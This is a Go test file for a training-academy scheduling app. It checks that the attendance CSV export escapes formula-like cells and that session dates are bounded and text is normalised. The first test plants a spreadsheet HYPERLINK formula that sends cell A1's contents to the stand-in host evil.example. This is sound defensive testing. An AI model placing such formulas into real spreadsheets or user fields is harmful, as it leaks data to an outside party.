package scheduling_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/ctvacademy/academy/modules/app/apptest"
	"github.com/ctvacademy/academy/modules/platform/authz"
	"github.com/ctvacademy/academy/modules/platform/clock"
	"github.com/ctvacademy/academy/modules/scheduling"
	"golang.org/x/text/unicode/norm"
)

// A name typed as a formula reaches the attendance CSV as text: a
// spreadsheet program shows it, and never runs it.
func TestAttendanceCSVNeverCarriesAFormula(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t)
	coord := s.LoginDemo(t, apptest.Coordinator)
	person := s.Find(t, "ctv", "NT")
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	if r := s.Do(t, "PATCH", "/api/v1/collaborators/"+person.ID, coord, map[string]any{"full_name": formula}); r.Status != 200 {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	start := time.Now().Add(-time.Hour).Truncate(time.Minute) // under way: attendance can be taken
	x := newSession(t, s, coord, map[string]any{"starts_at": start.Format(time.RFC3339), "ends_at": start.Add(2 * time.Hour).Format(time.RFC3339),
		"trainer": "+84 Trần Văn Tâm", "location": "@Hội trường"})
	if r := s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": person.ID, "status": "present"}}); r.Status != 200 {
		t.Fatalf("attendance: %d %s", r.Status, r.Body)
	}
	r := s.Do(t, "GET", "/api/v1/attendance/export.csv?session_id="+x.ID, coord, nil)
	if r.Status != 200 {
		t.Fatalf("csv: %d %s", r.Status, r.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv rows %v, %v", rows, err)
	}
	line := rows[1]
	if line[7] != "'"+formula || line[5] != "'+84 Trần Văn Tâm" || line[4] != "'@Hội trường" {
		t.Errorf("csv line %q", line)
	}
	for i, cell := range line {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %d starts a formula: %q", i, cell)
		}
	}
}

// Session dates are bounded at the API and the form: year 1 and year 9999
// are typing mistakes; the text is stored in NFC without invisible
// characters.
func TestSessionIntakeBoundsDatesAndNormalisesText(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC)
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(now)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	ok := now.Add(48 * time.Hour)
	x := newSession(t, s, coord, map[string]any{"starts_at": ok.Format(time.RFC3339), "ends_at": ok.Add(2 * time.Hour).Format(time.RFC3339),
		"title": norm.NFD.String("Tập huấn\u200b kỹ năng"), "location": norm.NFD.String(" Hội trường xã Phước An "), "trainer": norm.NFD.String("ThS. Lê Văn Hùng\u2060")})
	if x.Title != "Tập huấn kỹ năng" || x.Location != "Hội trường xã Phước An" || x.Trainer != "ThS. Lê Văn Hùng" {
		t.Errorf("stored text %q %q %q", x.Title, x.Location, x.Trainer)
	}
	for _, v := range []string{x.Title, x.Location, x.Trainer} {
		if !norm.NFC.IsNormalString(v) {
			t.Errorf("%q is not NFC", v)
		}
	}

	at := func(ts string) map[string]any {
		st, err := time.Parse(time.RFC3339, ts)
		if err != nil {
			t.Fatal(err)
		}
		return map[string]any{"title": "x", "location": "y", "starts_at": ts, "ends_at": st.Add(time.Hour).Format(time.RFC3339)}
	}
	for _, tc := range []struct {
		name, method, path string
		body               map[string]any
		field              string
	}{
		{"year 1", "POST", "/api/v1/sessions", at("0001-01-01T08:00:00+07:00"), "starts_at"},
		{"year 9999", "POST", "/api/v1/sessions", at("9999-12-31T08:00:00+07:00"), "starts_at"},
		{"1999", "POST", "/api/v1/sessions", at("1999-12-31T08:00:00+07:00"), "starts_at"},
		{"eleven years ahead", "POST", "/api/v1/sessions", at(now.AddDate(11, 0, 0).Format(time.RFC3339)), "starts_at"},
		{"moved to year 1", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"starts_at": "0001-01-01T08:00:00Z"}, "starts_at"},
		{"ending in 9999", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"ends_at": "9999-01-01T08:00:00Z"}, "ends_at"},
	} {
		r := s.Do(t, tc.method, tc.path, coord, tc.body)
		if r.Status != 400 || !r.Problem(t).HasField(tc.field) {
			t.Errorf("%s: %d %s, want 400 naming %s", tc.name, r.Status, r.Body, tc.field)
		}
	}
	// The edges are fine.
	newSession(t, s, coord, at("2000-01-01T08:00:00+07:00"))
	newSession(t, s, coord, at(now.AddDate(10, 0, -1).Format(time.RFC3339)))

	// The form says so on the date field, in Vietnamese.
	f := s.Forms(t, coord)
	f.Get("/sessions/new")
	form := url.Values{"title": {"Tập huấn"}, "course_code": {"KC-101"}, "date": {"9999-12-09"}, "start": {"08:00"},
		"end": {"11:30"}, "location": {"Hội trường"}, "area_code": {"NT"}}
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) || !strings.Contains(p.Body, "Ngày tập huấn phải từ 01/01/2000") {
		t.Errorf("form with year 9999: %d", p.Status)
	}
	form.Set("date", "0001-01-01")
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) {
		t.Errorf("form with year 1: %d", p.Status)
	}
	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{})
	if err != nil || len(all) != 3 {
		t.Errorf("%d sessions after the refused ones, want 3 (%v)", len(all), err)
	}
	got := getSession(t, s, x.ID)
	if !got.StartsAt.Equal(x.StartsAt) || !got.EndsAt.Equal(x.EndsAt) {
		t.Errorf("a refused PATCH moved the session: %v–%v", got.StartsAt, got.EndsAt)
	}
}
